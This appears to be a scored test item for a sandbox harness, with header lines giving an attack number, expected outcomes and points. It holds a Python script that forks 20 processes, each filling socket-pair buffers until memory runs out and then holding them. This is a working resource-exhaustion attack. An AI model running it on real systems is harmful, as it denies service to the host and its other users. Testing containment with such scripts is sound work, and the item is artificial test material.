# attack: 4
# does: fills the buffers of as many sockets and pipes as it can open, in many processes
# run: finished or out_of_memory or killed
# earns: 10
# with: work
work()
import os
import socket
import time

for _ in range(20):
    if os.fork() == 0:
        held = []
        try:
            while True:
                one, other = socket.socketpair()
                held += [one, other]
                for end in (one, other):
                    end.setblocking(False)
                    try:
                        while True:
                            end.send(b"x" * 65536)
                    except BlockingIOError:
                        pass
        except OSError:
            time.sleep(100)
time.sleep(1.5)
